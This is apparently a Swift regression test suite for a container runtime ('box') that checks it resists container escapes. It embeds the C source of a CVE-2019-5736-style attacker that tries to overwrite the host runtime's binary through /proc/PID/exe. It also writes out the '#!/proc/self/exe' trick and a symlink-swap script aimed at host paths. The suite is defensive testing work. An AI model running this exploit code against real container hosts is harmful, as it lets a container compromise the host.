import Foundation
import Testing
import TestSupport
@testable import Engine

/// The attacker of CVE-2019-5736, run inside the container: it watches /proc for a process whose executable is
/// not one of the container's (the box binary, while `box exec` enters), then tries to write it through
/// /proc/PID/exe, to read its environ and mem, and, holding a read-only descriptor, to reopen it for writing
/// once nothing runs it any more (the ETXTBSY wait of the published exploit). It prints what it saw and did.
private let attacker = #"""
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    char self[64]; snprintf(self, sizeof self, "%d", getpid());
    int held = -1; time_t end = time(NULL) + 12;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
            char path[300], link[512];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n <= 0) continue;
            link[n] = 0;
            if (strncmp(link, "/bin/", 5) == 0 || strcmp(link, "/attack") == 0) continue;
            printf("SAW %s %s\n", e->d_name, link);
            int w = open(path, O_WRONLY); printf(w >= 0 ? "EXE-WRITABLE\n" : "exe-wronly %d\n", errno);
            if (w >= 0) { if (write(w, "PWNED", 5) == 5) printf("WROTE\n"); close(w); }
            int rw = open(path, O_RDWR); printf(rw >= 0 ? "EXE-WRITABLE\n" : "exe-rdwr %d\n", errno);
            if (rw >= 0) close(rw);
            if (held < 0) { held = open(path, O_RDONLY); if (held >= 0) printf("HELD\n"); }
        }
        if (d) closedir(d);
        if (held >= 0) {
            char again[64]; snprintf(again, sizeof again, "/proc/self/fd/%d", held);
            int w = open(again, O_WRONLY);
            if (w >= 0) { if (pwrite(w, "PWNED", 5, 0) == 5) printf("WROTE\n"); close(w); return 0; }
        }
    }
    printf("END\n");
    return 0;
}
"""#

@Suite("Security: box exec and the mount targets (the hardening issue, items 4 and 6)", .enabled(if: isRoot, Comment(rawValue: needsRoot)))
struct ExeSecurityTests {
    func sha256(_ path: String) throws -> String {
        try Command.run(["/usr/bin/sha256sum", path]).out
    }

    // Issue 17, security 4 (CVE-2019-5736): the container reopened the `box exec` process's /proc/PID/exe and
    // wrote box's file on the host (a copy of box: the installed one was saved only by ETXTBSY).
    @Test("box exec: no process in the container can write the box binary through /proc/PID/exe")
    func execBinaryIsNotWritable() throws {
        let box = try Sandbox()
        let dir = try box.scratch("exe")
        // The engine under attack is a copy of box: its sha256 is compared afterwards.
        let copy = dir + "/box-copy"
        try FileManager.default.copyItem(atPath: box.box, toPath: copy)
        chmod(copy, 0o755)
        let before = try sha256(copy)
        try String(attacker).write(toFile: dir + "/attack.c", atomically: true, encoding: .utf8)
        let cc = try Command.run(["/usr/bin/gcc", "-static", "-O2", "-o", dir + "/attack", dir + "/attack.c"])
        try #require(cc.status == 0, "gcc: \(cc.stderr)")

        _ = try box.detached("--name", "c", "busybox", "sleep", "1000")
        #expect(try box.run("cp", dir + "/attack", "c:/attack").status == 0)
        // The published exploit's trick: a command whose interpreter is /proc/self/exe runs box itself.
        #expect(try box.run("exec", "c", "sh", "-c", "printf '#!/proc/self/exe\\n' > /x; chmod 755 /x").status == 0)

        let output = dir + "/attack.out"
        let attack = Process()
        attack.executableURL = URL(fileURLWithPath: box.box)
        attack.arguments = ["exec", "c", "/attack"]
        attack.environment = ["BOX_ROOT": box.root, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"]
        _ = FileManager.default.createFile(atPath: output, contents: nil)
        attack.standardOutput = try FileHandle(forWritingTo: URL(fileURLWithPath: output))
        try attack.run()
        Thread.sleep(forTimeInterval: 0.3)
        let env = ["BOX_ROOT": box.root]
        // Once the attack has written the copy, it no longer starts (ENOEXEC): that is the failure shown below.
        _ = try? Command.run([copy, "exec", "c", "sleep", "1"], environment: env)
        for _ in 0..<15 { _ = try? Command.run([copy, "exec", "c", "/x"], environment: env) }
        attack.waitUntilExit()
        let seen = (try? String(contentsOfFile: output, encoding: .utf8)) ?? ""

        #expect(!seen.contains("WROTE"), "the container wrote box's file: \(seen)")
        #expect(!seen.contains("EXE-WRITABLE"), "the container opened box's file for writing: \(seen)")
        #expect(try sha256(copy).split(separator: " ").first == before.split(separator: " ").first, "box's file on the host changed")
        // What the container may see of box is a read-only view of it (or a sealed copy), never the host's file.
        for line in seen.split(separator: "\n") where line.hasPrefix("SAW ") {
            #expect(!line.hasSuffix(copy), "a process in the container had box's host file as its exe: \(line)")
        }
    }

    // PID 1 is a clone of box's own process (not an exec of it), so its /proc/self/exe is box's file on the host.
    // A first command "#!/proc/self/exe" would run that file as a dumpable PID 1, open to /proc/1/exe. The kernel
    // refuses it (ENOENT, seen on 6.18 and on Debian's 6.1 in the v2 guest, seccomp or not): the file lies on a
    // mount the container's namespace no longer has (pivot_root and the old root's detach). This test keeps it so.
    @Test("box run: a script whose interpreter is box itself (#!/proc/self/exe, /proc/1/exe, a chain, under --init) never runs box as the container's process")
    func runScriptOfSelfDoesNotRunBox() throws {
        let box = try Sandbox()
        let dir = try box.scratch("exe")
        let scripts = ["self": "#!/proc/self/exe\n", "one": "#! /proc/1/exe x\n", "chain": "#!/s/self\n",
                       "plain": "#!/bin/sh\necho plain-ran\n"]
        for (name, text) in scripts {
            try text.write(toFile: dir + "/" + name, atomically: true, encoding: .utf8)
            chmod(dir + "/" + name, 0o755)
        }
        for args in [["/s/self"], ["/s/one"], ["/s/chain"], ["-e", "PATH=/s:/bin", "self"], ["--init", "/s/self"],
                     ["--security-opt", "seccomp=unconfined", "/s/self"]] {
            let r = try box.run(["run", "--rm", "-v", dir + ":/s"] + args.dropLast() + ["busybox", args.last!])
            #expect(r.status == 127 && (r.stderr.contains("No such file or directory") || r.stderr.contains("not found")), "\(args): \(r.status) \(r.stdout) \(r.stderr)")
            #expect(!(r.stdout + r.stderr).contains("USAGE"), "\(args): box ran as the container's process")
        }
        let plain = try box.run("run", "--rm", "-v", dir + ":/s", "busybox", "/s/plain")
        #expect(plain.status == 0 && plain.out == "plain-ran", "\(plain.stdout) \(plain.stderr)")
    }

    // Issue 17, security 6: with a restart policy, the container replaced a directory on the way to its volume
    // with a symlink to a host path, and box created the volume's directory there on restart.
    @Test("a restart does not follow a symlink the container put on the way to a volume")
    func restartDoesNotFollowSwappedSymlink() throws {
        let box = try Sandbox()
        let dir = try box.scratch("exe")
        let target = dir + "/target"  // the host path the symlink points at: must stay empty
        try FileManager.default.createDirectory(atPath: target, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: dir + "/vol", withIntermediateDirectories: true)
        let script = "if [ -L /a ]; then exec sleep 1000; fi; mv /a /gone && ln -s \(target) /a; exit 0"
        _ = try box.detached("--name", "r", "--restart", "always", "-v", dir + "/vol:/a/vol", "busybox", "sh", "-c", script)
        _ = Sandbox.eventually(4) { ((try? FileManager.default.contentsOfDirectory(atPath: target)) ?? []).count > 0 }
        Thread.sleep(forTimeInterval: 1)
        #expect(((try? FileManager.default.contentsOfDirectory(atPath: target)) ?? []).isEmpty,
                "box created the volume's target through the container's symlink, on the host")
        #expect(!Rootfs.mountPoints().contains { $0.hasPrefix(target) })
        _ = try box.run("rm", "-f", "r")
    }

    @Test("a volume over /proc or below it is refused with a clear error, and nothing is created")
    func volumeInProcRefused() throws {
        let box = try Sandbox()
        let dir = try box.scratch("exe")
        for target in ["/proc", "/proc/sys", "//proc/./sysrq-trigger"] {
            let host = dir + "/xyz"
            let r = try box.run("run", "--rm", "-v", host + ":" + target, "busybox", "true")
            #expect(r.status != 0, "-v \(host):\(target) was accepted")
            #expect(r.stderr.contains("/proc belongs to the container"), "\(r.stderr)")
            #expect(!FileManager.default.fileExists(atPath: host))
        }
        #expect(try box.run("ps", "-aq").out.isEmpty)
    }

    @Test("a volume at /dev gets no device node or link of box's (they would be made in the host directory)")
    func userDevIsNotPopulated() throws {
        let box = try Sandbox()
        let dir = try box.scratch("exe")
        let host = dir + "/dev"
        try FileManager.default.createDirectory(atPath: host, withIntermediateDirectories: true)
        let r = try box.run("run", "--rm", "-v", host + ":/dev", "busybox", "true")
        #expect(r.status == 0, "\(r.stderr)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: host).isEmpty, "box wrote into the host directory mounted at /dev")
    }
}
